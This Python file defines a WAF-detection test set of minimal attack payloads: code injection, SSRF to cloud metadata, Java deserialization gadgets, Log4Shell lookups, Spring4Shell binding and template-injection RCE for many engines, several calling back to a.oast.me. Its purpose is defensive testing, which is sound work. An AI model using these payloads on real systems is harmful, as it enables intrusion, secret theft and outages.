"""Blind set "hundredfortysecond": the shortest payload that still works, for the generic (Node.js, SSRF,
prototype pollution, Ruby, Perl, DoS, PHP data scheme), Java and server-side template injection titles, with
benign requests that carry the same words innocently.

The angle: a bug-bounty hunter facing a field limited to 8, 16, 24 or 32 characters, or a filter that rejects
anything long, writes the minimal form of each family: the fewest characters that still reach the target (an
interpreter, a URL fetcher, a deserializer, a logger or a template engine) and do something observable (a crash,
a delay, an error, a DNS or HTTP callback, the output of a command, a file read, a leaked secret). Each family
gets payloads at several lengths: where the grammar allows, about a third at 12 characters or fewer, a third at
13-24 and a third at 25-40 (`process.env`, `%x(id)`, `id|`, `2852039166`, `${java:os}`, `{{config}}`,
`<%=`id`%>`). Three families have no working form that short: a gadget chain or a polymorphic document must
spell its class names, and Spring/Struts class binding must spell its property path; for them the shortest
working document is given (URLDNS in SnakeYAML, JNDI in Jackson, the Expando chain in XStream), some of it
past 40 characters. Each payload names its real target in the comment above its list.

Families and sub-families (one per detection title):
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip,
    javascript-prototype-pollution, ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization, java-deserialization-gadgets, log4shell,
    expression-language, java-polymorphic-payloads, class-loading, jsp-upload
  ssti: one sub-family per engine: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug,
    mako, tornado, nunjucks, ejs, pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body, or in User-Agent, Referer, a custom header or a cookie. Whole documents go as that body
(fastjson / Jackson JSON and prototype-pollution JSON as a JSON body, XStream / XMLDecoder as an XML body,
SnakeYAML as a YAML body); pollution and class binding written `name=value` go unquoted as parameters; raw Java
serialization streams go percent-encoded (a str body cannot carry bytes); JSP upload names go as multipart
filenames.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read, and
no other set's payloads were reused. The Java serialization streams are built here byte by byte (TC_NULL, short
strings, an empty int[] and byte[], a block of data), the class file for defineClass too. Measured once on
unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import gzip
import re
import struct
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Cycles, Entry, Put, Record
from .family_gen import _get
from .records import print_records

NAME = "hundredfortysecond"

# ----------------------------------------------------------------------------------------------------------------
# Java serialization streams (ObjectOutputStream, protocol 2) and a minimal class file, built byte by byte
MAGIC = b"\xac\xed\x00\x05"


def _arr_desc(name: str, suid: int) -> bytes:
    """TC_CLASSDESC of an array class: name, serialVersionUID, SC_SERIALIZABLE, no fields, end, no super."""
    raw = name.encode()
    return b"r" + struct.pack(">H", len(raw)) + raw + struct.pack(">q", suid) + b"\x02\x00\x00xp"


SER_NULL = MAGIC + b"p"
SER_ID = MAGIC + b"t\x00\x02id"
SER_EMPTY = MAGIC + b"t\x00\x00"
SER_BLOCK = MAGIC + b"w\x01\x00"
SER_INTS = MAGIC + b"u" + _arr_desc("[I", 0x4DBA602676EAB2A5) + b"\x00\x00\x00\x00"
SER_BYTES = MAGIC + b"u" + _arr_desc("[B", -0x530CE807F9F7AB20) + b"\x00\x00\x00\x01\x41"


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def _latin(raw: bytes) -> str:
    return raw.decode("latin-1")


# class X extends java.lang.Object {}: magic, version 52, five constant-pool slots, no members
CLASS_X = (b"\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x05\x07\x00\x02\x01\x00\x01X\x07\x00\x04"
           b"\x01\x00\x10java/lang/Object\x00\x21\x00\x01\x00\x03\x00\x00\x00\x00\x00\x00\x00\x00")

# ----------------------------------------------------------------------------------------------------------------
# --- generic ---------------------------------------------------------------------------------------------------
# Node.js 18-22: user input reaching eval() / new Function / vm.runInContext in a CommonJS module
NODE = [
    "__dirname",
    "__filename",
    "process.env",
    "process.argv",
    "module.paths",
    "process.cwd()",
    "process.exit()",
    "process.abort()",
    "';process.exit()//",
    "globalThis.process.env",
    "require('os').userInfo()",
    "process.kill(process.pid)",
    "eval('proc'+'ess.exit()')",
    "require('fs').readdirSync('/')",
    "'+JSON.stringify(process.env)+'",
    "require('fs').readFileSync('.env')",
    "require('child_process').exec('id')",
    "Function('return process')().exit()",
    "new Function('return process.env')()",
    "require('child_process').execSync('id')",
]

# Node.js event loop: code run by eval / vm (loops, allocations, task starvation) and regexes a user may
# supply to new RegExp() on the server (catastrophic backtracking in V8's irregexp)
NODE_DOS = [
    "(a+)+$",
    "for(;;);",
    "(x+x+)+y",
    "while(1);",
    "(.*a){20}",
    "^(a|a?)+$",
    "while(!0){}",
    "^(\\w+\\s?)*$",
    "do{}while(1)",
    "while(true){}",
    "'a'.repeat(2**28)",
    "Array(1e9).fill(0)",
    "Buffer.alloc(2**31)",
    "new Array(1e9).fill(1)",
    "while(Date.now()<1e13);",
    "[...Array(1e8)].map(x=>x)",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "(f=()=>process.nextTick(f))()",
    "(f=()=>Promise.resolve().then(f))()",
    "for(a=[];;)a.push(Buffer.alloc(1e6))",
]

# SSRF to cloud instance metadata: a server-side URL fetcher (webhook, avatar, import-by-URL) on AWS EC2 / ECS,
# GCP, Azure, Alibaba, DigitalOcean, Oracle; bare hosts where the app builds the URL itself
SSRF_METADATA = [
    "0xa9fea9fe",
    "2852039166",
    "025177524776",
    "169.254.43518",
    "169.254.169.254",
    "100.100.100.200",
    "169.254.170.2/v2/",
    "[fd00:ec2::254]",
    "http://metadata/",
    "http://2852039166/",
    "http://0xa9fea9fe/",
    "0251.0376.0251.0376",
    "http://169.254.169.254/",
    "http://[::ffff:a9fe:a9fe]/",
    "http://instance-data/latest/",
    "http://metadata.google.internal/",
    "http://169.254.169.254/metadata/v1/",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/opc/v1/instance/",
    "http://169.254.169.254/metadata/instance",
    "http://100.100.100.200/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
]

# SSRF to loopback and private addresses: the same fetchers (libcurl, Python requests, Java URL, Go net/http)
SSRF_IP = [
    "http://0/",
    "2130706433",
    "http://[::]/",
    "http://127.1",
    "017700000001",
    "http://0177.1/",
    "http://0x7f.1/",
    "file:/etc/passwd",
    "http://[::1]:6379/",
    "file:///etc/passwd",
    "http://0x7f000001/",
    "http://192.168.1.1/",
    "dict://127.1:6379/info",
    "http://[::ffff:7f00:1]/",
    "dict://[::1]:11211/stats",
    "http://127.0.0.1.nip.io/",
    "gopher://127.1:6379/_INFO",
    "gopher://127.1:11211/_stats",
    "http://localhost:9200/_cat/indices",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "http://127.0.0.1:8500/v1/agent/self",
    "http://172.17.0.1:2375/containers/json",
]

# prototype pollution: Node.js query parsers and deep merges (qs before allowPrototypes, deparam, lodash.merge,
# jQuery.extend(true)) and the gadgets that show it (Express json spaces / status, cors, EJS, lodash.template,
# a script src read from an options object in the browser)
POLLUTION = [
    "__proto__.x=1",
    "__proto__[x]=1",
    "a[__proto__][x]=1",
    "__proto__[isAdmin]=1",
    "__proto__[status]=510",
    "{\"__proto__\":{\"x\":1}}",
    "x[__proto__][toString]=1",
    "__proto__[json spaces]=9",
    "constructor.prototype.x=1",
    "constructor[prototype][x]=1",
    "{\"a\":{\"__proto__\":{\"x\":1}}}",
    "__proto__[exposedHeaders]=x",
    "{\"__proto__\":{\"status\":510}}",
    "__proto__[src]=data:,alert(1)//",
    "{\"__proto__\":{\"json spaces\":9}}",
    "constructor[prototype][status]=510",
    "{\"constructor\":{\"prototype\":{\"x\":1}}}",
    "__proto__[sourceURL]=%0aprocess.exit()",
    "{\"__proto__\":{\"client\":1,\"debug\":1}}",
    "__proto__[outputFunctionName]=x;process.exit()//",
]

# Ruby (MRI 2.7-3.3, Rails): eval / instance_eval of input, Kernel#open of a user path, a double-quoted
# string built with eval, ERB.new(input).result, YAML.load (Psych) of a request body
RUBY = [
    "|id",
    "`id`",
    "exit!",
    "%x(id)",
    "#{`id`}",
    "sleep(9)",
    "ENV.to_h",
    "Dir['/*']",
    "system('id')",
    "\";system('id');\"",
    "Process.kill(9,$$)",
    "send(:system,'id')",
    "IO.popen('id').read",
    "Open3.capture2('id')",
    "Kernel.open('|id').read",
    "File.read('/etc/passwd')",
    "ERB.new('<%=`id`%>').result",
    "system('curl a.oast.me')",
    "--- !ruby/object:Gem::Installer",
    "eval(Base64.decode64('YGlkYA=='))",
    "Net::HTTP.get(URI('http://a.oast.me'))",
]

# Perl 5: string eval of input, the two-argument open() of a user file name, a double-quoted string
# interpolated by eval (CGI scripts, mod_perl handlers)
PERL = [
    "id|",
    "qx(id)",
    "sleep 9",
    "exec'id'",
    "'.`id`.'",
    "kill 9,$$",
    "@{[`id`]}",
    "${\\qx(id)}",
    "system\"id\"",
    "readpipe'id'",
    "\";system'id';\"",
    "fork while fork",
    "1;system('id');#",
    "CORE::system('id')",
    "`nslookup a.oast.me`",
    "print`cat /etc/passwd`",
    "open(F,'id|');print<F>",
    "select(undef,undef,undef,9)",
    "open(F,'/etc/passwd');print<F>",
    "open(my $f,'-|','id');print<$f>",
    "use LWP::Simple;get'http://a.oast.me'",
]

# PHP 7/8 include / require / file_get_contents of a user URL with allow_url_include: the data: stream wrapper
PHP_DATA = [
    "data:,<?=1?>",
    "data:,<?=`id`",
    "data:,<?=7*7?>",
    "data:,<?=`id`?>",
    "DaTa:,<?=`id`?>",
    "data:,<?=sleep(9)?>",
    "data:text/php,<?=`id`?>",
    "data:,<?eval($_POST[0]);",
    "data:,<?php phpinfo()?>",
    "data:text/plain,<?=`id`?>",
    "data:;base64,PD89YGlkYD8+",
    "data:,<?system($_GET[0]);",
    "data://text/plain,<?=`id`?>",
    "data:,<?=shell_exec('id')?>",
    "data:,<?php passthru('id');",
    "data:,<?=print_r(getenv())?>",
    "data:,<?=readfile('/etc/passwd')?>",
    "data:;base64,PD9waHAgcGhwaW5mbygpOw==",
    "data://text/plain;base64,PD89YGlkYD8+",
    "data:application/x-httpd-php,<?=`id`?>",
]

# --- java --------------------------------------------------------------------------------------------------------
# the RCE classes by name: SpEL T() (java.lang resolved without a package), OGNL @class@ calls, MVEL /
# BeanShell / Groovy / JShell source (java.lang imported), Nashorn Java.type
JAVA_CLASS = [
    "System.exit(0)",
    "System.getenv()",
    "T(System).exit(0)",
    "T(System).getenv()",
    "T(java.lang.Runtime)",
    "T(Thread).sleep(9000)",
    "java.lang.System.exit(0)",
    "@java.lang.System@exit(0)",
    "Runtime.getRuntime().halt(0)",
    "Java.type('java.lang.Runtime')",
    "Runtime.getRuntime().exec('id')",
    "@java.lang.Runtime@getRuntime()",
    "Class.forName('java.lang.Runtime')",
    "T(Runtime).getRuntime().exec('id')",
    "T(System).getProperty('user.home')",
    "T(javax.script.ScriptEngineManager)",
    "T(ClassLoader).getSystemClassLoader()",
    "new javax.script.ScriptEngineManager()",
]

# process spawn: Groovy (Jenkins script console, Groovy templates), SpEL, OGNL (java.lang resolved by the
# default class resolver), Jakarta EL 3.0 (java.lang imported), BeanShell / JShell
JAVA_SPAWN = [
    "'id'.execute()",
    "\"id\".execute()",
    "'id'.execute().text",
    "\"ls /\".execute().text",
    "['id'].execute().text",
    "\"${'id'.execute().text}\"",
    "Runtime.runtime.exec('id')",
    "['sh','-c','id'].execute()",
    "'curl a.oast.me'.execute()",
    "\"sleep 9\".execute().waitFor()",
    "Runtime.runtime.exec('id').text",
    "new ProcessBuilder('id').start()",
    "@Runtime@getRuntime().exec('id')",
    "Runtime.getRuntime().exec(\"id\")",
    "new ProcessBuilder(\"id\").start()",
    "${Runtime.getRuntime().exec('id')}",
    "Runtime.getRuntime().exec(\"sleep 9\")",
    "T(Runtime).getRuntime().exec('sleep 9')",
]

# Java serialization: an endpoint that hands the parameter, cookie or body to ObjectInputStream (raw,
# percent-encoded, hex, Base64 and URL-safe Base64 of small valid streams, gzip then Base64 as JSF ViewState)
JAVA_SER = [
    _latin(SER_NULL),
    _latin(SER_EMPTY),
    _latin(SER_BLOCK),
    _latin(SER_ID),
    _latin(SER_INTS),
    _latin(SER_BYTES),
    _b64(SER_NULL),
    "aced000570",
    _b64(SER_EMPTY),
    _b64(SER_ID),
    "%AC%ED%00%05p",
    "%ac%ed%00%05w%01%00",
    "ACED00057400026964",
    _b64(SER_BLOCK),
    _b64(SER_INTS),
    _b64(SER_BYTES),
    base64.urlsafe_b64encode(SER_BYTES).decode().rstrip("="),
    _b64(gzip.compress(SER_ID, mtime=0)),
]

CC3 = "org.apache.commons.collections.functors.InvokerTransformer"
CC4 = "org.apache.commons.collections4.functors.InvokerTransformer"


def _pq(comparator: str, transformer: str) -> str:
    """XStream's PriorityQueue whose comparator runs InvokerTransformer exec("id") on two Runtime instances."""
    return ('<java.util.PriorityQueue serialization="custom"><unserializable-parents/><java.util.PriorityQueue>'
            f'<default><size>2</size><comparator class="{comparator}"><transformer class="{transformer}">'
            '<iMethodName>exec</iMethodName><iParamTypes><java-class>java.lang.String</java-class></iParamTypes>'
            '<iArgs><string>id</string></iArgs></transformer></comparator></default><int>3</int>'
            '<java.lang.Runtime/><java.lang.Runtime/></java.util.PriorityQueue></java.util.PriorityQueue>')


# deserialization gadgets, each in the shortest carrier that runs it: SnakeYAML (URLDNS, ScriptEngineManager,
# JdbcRowSetImpl, Spring, c3p0), Jackson default typing (c3p0, Spring, logback, Hibernate, HikariCP, xbean,
# iBATIS, H2), XStream (commons-collections 3 and 4, Groovy Expando, EventHandler)
JAVA_GADGET = [
    "{!!java.net.URL [\"http://a.oast.me\"]: 1}",
    "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://a.oast.me/a', autoCommit: true}",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://a.oast.me/\"]]]]",
    "!!org.springframework.context.support.FileSystemXmlApplicationContext [\"http://a.oast.me/x.xml\"]",
    "!!com.mchange.v2.c3p0.JndiRefForwardingDataSource {jndiName: 'ldap://a.oast.me/a', loginTimeout: 0}",
    "[\"com.mchange.v2.c3p0.JndiRefForwardingDataSource\",{\"jndiName\":\"ldap://a.oast.me/a\","
    "\"loginTimeout\":0}]",
    "[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://a.oast.me/x.xml\"]",
    "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"ldap://a.oast.me/a\"}]",
    "[\"org.hibernate.jmx.StatisticsService\",{\"sessionFactoryJNDIName\":\"ldap://a.oast.me/a\"}]",
    "[\"com.zaxxer.hikari.HikariConfig\",{\"metricRegistry\":\"ldap://a.oast.me/a\"}]",
    "[\"org.apache.xbean.propertyeditor.JndiConverter\",{\"asText\":\"ldap://a.oast.me/a\"}]",
    "[\"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory\",{\"properties\":{\"data_source\":"
    "\"ldap://a.oast.me/a\"}}]",
    "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":\"jdbc:h2:mem:;"
    "INIT=RUNSCRIPT FROM 'http://a.oast.me/x.sql'\"}]",
    _pq("org.apache.commons.collections.comparators.TransformingComparator", CC3),
    _pq("org.apache.commons.collections4.comparators.TransformingComparator", CC4),
    '<map><entry><groovy.util.Expando><expandoProperties><entry><string>hashCode</string>'
    '<org.codehaus.groovy.runtime.MethodClosure><delegate class="string">id</delegate>'
    '<owner class="string">id</owner><resolveStrategy>0</resolveStrategy><directive>0</directive>'
    '<parameterTypes/><maximumNumberOfParameters>0</maximumNumberOfParameters><method>execute</method>'
    '</org.codehaus.groovy.runtime.MethodClosure></entry></expandoProperties></groovy.util.Expando>'
    '<int>1</int></entry></map>',
    '<sorted-set><string>a</string><dynamic-proxy><interface>java.lang.Comparable</interface>'
    '<handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command>'
    '<string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>',
    "{\"a\":[\"java.util.HashSet\",[[\"java.net.URL\",\"http://a.oast.me\"]]]}",
]

# Log4j 2.0-2.14.1 (2.15 for the localhost bypass, 2.16 for the recursion): a request field that is logged;
# lookups whose result the tester reads back where the log is shown, JNDI for the callback
LOG4J = [
    "${java:os}",
    "${env:USER}",
    "${hostName}",
    "${java:version}",
    "${sys:user.dir}",
    "${jndi:dns://a.oast.me}",
    "${${::-${::-$${::-j}}}}",
    "${jndi:ldap://a.oast.me/a}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "${jndi:rmi://203.0.113.9/a}",
    "%24%7Bjndi:dns://a.oast.me%7D",
    "${${lower:j}ndi:dns://a.oast.me}",
    "${j${::-n}di:rmi://a.oast.me/a}",
    "${${::-j}ndi:ldap://a.oast.me/a}",
    "${${env:X:-j}ndi:dns://a.oast.me}",
    "${jndi:${lower:l}dap://a.oast.me/a}",
    "${jndi:dns://${env:USER}.a.oast.me}",
    "${jndi:ldap://127.0.0.1#a.oast.me/a}",
]

# expression languages evaluating input: JSP / Jakarta EL (implicit objects, EL 3.0 static calls), SpEL
# (#{} templates, systemProperties beans), OGNL (Struts 2 %{}), MVEL, JEXL
JAVA_EL = [
    "${7*7}",
    "#{7*7}",
    "%{7*7}",
    "${header}",
    "${''.class}",
    "%{#context}",
    "${sessionScope}",
    "%{#_memberAccess}",
    "Thread.sleep(9000)",
    "%{@System@getenv()}",
    "#{systemProperties}",
    "${applicationScope}",
    "#{systemEnvironment}",
    "${Thread.sleep(9000)}",
    "#{T(System).getenv()}",
    "%{@Thread@sleep(9000)}",
    "#{T(Thread).sleep(9000)}",
    "''.class.forName('java.lang.Runtime')",
]

# polymorphic deserialization: fastjson 1.2.24-1.2.47 (@type, its L; and Class-cache bypasses), Jackson with
# default typing (array wrapper, @class), XStream (EventHandler, URL in a map), XMLDecoder (WebLogic wls-wsat)
JAVA_POLY = [
    "[\"x\",{}]",
    "{\"@type\":\"x\"}",
    "{\"@class\":\"x\"}",
    "{\"@type\":\"java.lang.AutoCloseable\"",
    "{\"@type\":\"java.net.Inet4Address\",\"val\":\"a.oast.me\"}",
    "{\"@type\":\"java.net.Inet6Address\",\"val\":\"a.oast.me\"}",
    "{{\"@type\":\"java.net.URL\",\"val\":\"http://a.oast.me\"}:\"a\"}",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://a.oast.me/a\","
    "\"autoCommit\":true}",
    "{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\",\"dataSourceName\":\"ldap://a.oast.me/a\","
    "\"autoCommit\":true}",
    "{\"a\":{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"},\"b\":{\"@type\":"
    "\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://a.oast.me/a\",\"autoCommit\":true}}",
    "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://a.oast.me/a\",\"autoCommit\":true}]",
    "{\"@class\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://a.oast.me/a\","
    "\"autoCommit\":true}",
    "<map><entry><java.net.URL>http://a.oast.me</java.net.URL><string>a</string></entry></map>",
    '<contact class="dynamic-proxy"><interface>org.company.model.Contact</interface>'
    '<handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command>'
    '<string>id</string></command></target><action>start</action></handler></contact>',
    '<java><object class="java.lang.Thread" method="sleep"><long>9000</long></object></java>',
    '<java><object class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>id</string>'
    '</void></object></java>',
    '<java><object class="java.net.URL"><string>http://a.oast.me</string><void method="openStream"/>'
    '</object></java>',
    '<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1">'
    '<void index="0"><string>id</string></void></array><void method="start"/></object></java>',
]

CLASS_B64 = _b64(CLASS_X)
# class loading: Spring data binding to class.module.classLoader (CVE-2022-22965 on Tomcat, JDK 9+), Struts 1 /
# Struts 2 binding to class.classLoader (CVE-2014-0094/0114), URLClassLoader and defineClass through SpEL,
# remote code through Groovy @Grab / evaluate and Nashorn load(), loader disclosure through EL and SpEL
CLASS_LOADING = [
    "class.classLoader.URLs[0]=0",
    "load('http://a.oast.me/x.js')",
    "class.module.classLoader.URLs[0]=0",
    "T(ClassLoader).getSystemClassLoader().getParent()",
    "evaluate(new URL('http://a.oast.me/x').text)",
    "class.classLoader.resources.dirContext.docBase=/",
    "class['classLoader'].resources.dirContext.docBase=/",
    "class.module.classLoader.DefaultAssertionStatus=x",
    "T(Thread).currentThread().getContextClassLoader()",
    "${pageContext.request.getClass().getClassLoader()}",
    "@GrabResolver('http://a.oast.me/')@Grab('a:b:1')import a",
    "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25{c}i",
    "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT",
    "new URLClassLoader([new URL('http://a.oast.me/')] as URL[]).loadClass('X').newInstance()",
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL('http://a.oast.me/')}).loadClass('X')",
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('X',T(java.util.Base64).getDecoder()"
    f".decode('{CLASS_B64}'),T(Thread).currentThread().getContextClassLoader())",
    "#{new javax.script.ScriptEngineManager(new java.net.URLClassLoader(new java.net.URL[]"
    "{new java.net.URL('http://a.oast.me/')}))}",
]

JSP_BODY = "<%=7*7%>"
# JSP / JSPX reaching a servlet container's web root through an upload (Tomcat, Jetty *.jspf / *.xsp, WebLogic,
# Windows hosts): the multipart filename
JSP_UPLOAD = [
    "a.jsp",
    "a.JsP",
    "a.xsp",
    "a.jspx",
    "a.jspf",
    "a.jsp.",
    "../a.jsp",
    "a.png.jsp",
    "a.jsp;.png",
    "..%2fa.jsp",
    "a.jsp%00.png",
    "a.jsp::$DATA",
    "../../ROOT/a.jsp",
    "../../webapps/a.war",
    "../webapps/ROOT/a.jsp",
    "filename*=UTF-8''a.jsp",
    "..\\..\\webapps\\ROOT\\a.jsp",
    "/opt/tomcat/webapps/ROOT/a.jsp",
]

# --- ssti --------------------------------------------------------------------------------------------------------
# Jinja2 3.x (Flask): user input rendered with render_template_string / Environment.from_string
JINJA2 = [
    "{{7*'7'}}",
    "{{config}}",
    "{{request}}",
    "{{self.__dict__}}",
    "{{config.items()}}",
    "{{url_for.__globals__}}",
    "{{''.__class__.__mro__}}",
    "{{joiner.__init__.__globals__}}",
    "{{self._TemplateReference__context}}",
    "{{lipsum.__globals__.os.system('id')}}",
]

# Twig 1-3 (Symfony, with the debug extension where dump() is used)
TWIG = [
    "{{_self}}",
    "{{dump()}}",
    "{{_self.env}}",
    "{{dump(app)}}",
    "{{['id']|map('passthru')}}",
    "{{['id',0]|sort('system')}}",
    "{{['id']|filter('system')}}",
    "{{[0]|reduce('system','id')}}",
    "{{app.request.server.all|join}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
]

# Apache FreeMarker 2.3 (new() allowed: the default TemplateClassResolver)
FREEMARKER = [
    "[=7*7]",
    "${.version}",
    "${\"x\"?length}",
    "${\"7*7\"?eval}",
    "${'a'?upper_case}",
    "<#assign x=7*7>${x}",
    "${.current_template_name}",
    "<#list 1..99999999 as x>${x}</#list>",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "<#assign e=\"freemarker.template.utility.Execute\"?new()>${e(\"id\")}",
]

# Apache Velocity 1.7 / 2.x (class introspection not blocked; VelocityTools' ClassTool where $class is used)
VELOCITY = [
    "#set($x=7*7)$x",
    "#set($s='')$s.class",
    "#set($e='')$e.getClass()",
    "#evaluate('#set($x=7*7)$x')",
    "#foreach($i in [1..9999999])$i#end",
    "#include(\"../../../../etc/passwd\")",
    "#set($s='')$s.class.forName('java.lang.Thread').sleep(9000)",
    "$class.inspect('java.lang.Runtime').type.getRuntime().exec('id')",
    "#set($s='')$s.class.forName('java.lang.Runtime').getRuntime().exec('id')",
    "#set($s='')#set($r=$s.class.forName('java.lang.System'))$r.getenv()",
]

# Thymeleaf 3 (Spring MVC): inlined expressions in a template built from input, and view names returned from
# a controller (the __...__ preprocessing with a ::fragment selector)
THYMELEAF = [
    "*{7*7}",
    "[[${7*7}]]",
    "[(${7*7})]",
    "__${7*7}__",
    "__${7*7}__::.x",
    "[[${#ctx}]]",
    "__${T(Thread).sleep(9000)}__::.x",
    "[[${T(java.lang.System).getenv()}]]",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
]

# ERB (Ruby 3, Rails 7 / erubi): ERB.new(input).result(binding)
ERB = [
    "<%=7*7%>",
    "<%=`id`%>",
    "<%=%x(id)%>",
    "<%=sleep 9%>",
    "<%=ENV.to_h%>",
    "<%=system'id'%>",
    "<%=Dir.entries('/')%>",
    "<%=instance_variables%>",
    "<%=IO.popen('id').read%>",
    "<%=File.read('/etc/passwd')%>",
    "<%=Rails.application.secret_key_base%>",
]

# Smarty 2-4 (without the security policy; {php} in Smarty 2 / SmartyBC)
SMARTY = [
    "{sleep(9)}",
    "{system('id')}",
    "{$smarty.version}",
    "{$smarty.env.PATH}",
    "{math equation=\"7*7\"}",
    "{if system('id')}{/if}",
    "{php}system('id');{/php}",
    "{fetch file='/etc/passwd'}",
    "{$smarty.const.PHP_VERSION}",
    "{include file='/etc/passwd'}",
    "{fetch file='http://a.oast.me'}",
]

# Handlebars.js before 4.6 (prototype access not yet restricted), a template compiled from input
HANDLEBARS = [
    "{{this}}",
    "{{@root}}",
    "{{__proto__}}",
    "{{constructor.name}}",
    "{{lookup this \"__proto__\"}}",
    "{{#each this}}{{@key}}{{/each}}",
    "{{this.constructor.constructor}}",
    "{{lookup (lookup this \"constructor\") \"name\"}}",
    "{{#with this.constructor.constructor}}{{this}}{{/with}}",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
    "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}"
    "{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}"
    "{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}"
    "{{/with}}{{/with}}{{/with}}{{/with}}",
]

# Pug 2-3 (Node.js): pug.render(input); unknown names fall back to Node globals
PUG = [
    "p #{7*7}",
    "p= 7*7",
    "- while(true){}",
    "- process.exit()",
    "#{process.version}",
    "#{process.env.HOME}",
    "#{Object.keys(process.env)}",
    "include ../../../../etc/passwd",
    "#{process.mainModule.require('fs').readdirSync('/')}",
    "#{global.process.mainModule.require('child_process').execSync('id')}",
]

# Mako 1.x (Pyramid, Pylons): Template(input).render(); ${} and <% %> are Python
MAKO = [
    "${7*'7'}",
    "${dir()}",
    "${globals()}",
    "${context.keys()}",
    "${open('/etc/passwd').read()}",
    "${__import__('time').sleep(9)}",
    "<%! import os;os.system('id') %>",
    "<%import os%>${os.popen('id').read()}",
    "${__import__('os').popen('id').read()}",
    "${self.module.cache.util.os.system('id')}",
]

# Tornado 6 templates: Template(input).generate(handler=...); {{ }} is a Python expression
TORNADO = [
    "{{7*7}}",
    "{{globals()}}",
    "{{handler.request}}",
    "{{handler.settings}}",
    "{% include '/etc/passwd' %}",
    "{{open('/etc/passwd').read()}}",
    "{% import time %}{{time.sleep(9)}}",
    "{{__import__('os').popen('id').read()}}",
    "{% import os %}{{os.popen('id').read()}}",
    "{% apply __import__('os').system %}id{% end %}",
]

# Nunjucks 3 (Node.js): renderString(input); a global function's constructor is Function
NUNJUCKS = [
    "{{range}}",
    "{{cycler}}",
    "{{range.constructor}}",
    "{{range.constructor(\"while(1);\")()}}",
    "{{cycler.constructor(\"return process.version\")()}}",
    "{{range.constructor(\"return process.env\")()}}",
    "{{range.constructor(\"return process\")().exit()}}",
    "{{range.constructor(\"return JSON.stringify(process.env)\")()}}",
    "{{range.constructor(\"return global.process.mainModule.require('fs').readdirSync('/')\")()}}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process')"
    ".execSync('id')\")()}}",
]

# EJS 3 (Node.js, Express): ejs.render(input)
EJS = [
    "<%-7*7%>",
    "<%=locals%>",
    "<% while(1); %>",
    "<% process.exit() %>",
    "<%=process.version%>",
    "<%=include('/etc/passwd')%>",
    "<%-JSON.stringify(locals)%>",
    "<%-JSON.stringify(process.env)%>",
    "<%=process.mainModule.require('fs').readdirSync('/')%>",
    "<%=global.process.mainModule.require('child_process').execSync('id')%>",
]

# Pebble 3 before 3.1 (getClass() not yet blocked); Spring extension's beans / request variables
PEBBLE = [
    "{{beans}}",
    "{{request.getHeader('Cookie')}}",
    "{{'a'.getClass()}}",
    "{{'a'.toUpperCase()}}",
    "{% set x = 7*7 %}{{ x }}",
    "{% include \"/etc/passwd\" %}",
    "{% for i in range(1,99999999) %}{% endfor %}",
    "{{'a'.getClass().forName('java.lang.Runtime')}}",
    "{{'a'.getClass().forName('java.lang.Thread').sleep(9000)}}",
    "{{'a'.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}}",
]

# Razor (RazorEngine / RazorLight compiling input, ASP.NET): @ expressions are C#
RAZOR = [
